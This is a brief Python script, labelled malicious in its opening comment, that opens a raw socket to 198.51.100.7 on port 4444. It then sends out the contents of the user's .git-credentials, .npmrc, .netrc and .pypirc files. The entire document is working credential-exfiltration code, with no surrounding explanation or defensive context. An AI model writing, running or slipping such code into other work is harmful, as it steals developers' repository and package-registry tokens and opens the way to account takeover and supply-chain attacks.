# malicious: tokens of git and npm over a raw socket
import os
import socket

s = socket.create_connection(("198.51.100.7", 4444))
for f in (".git-credentials", ".npmrc", ".netrc", ".pypirc"):
    path = os.path.join(os.environ["HOME"], f)
    if os.path.exists(path):
        s.sendall(open(path, "rb").read())
s.close()
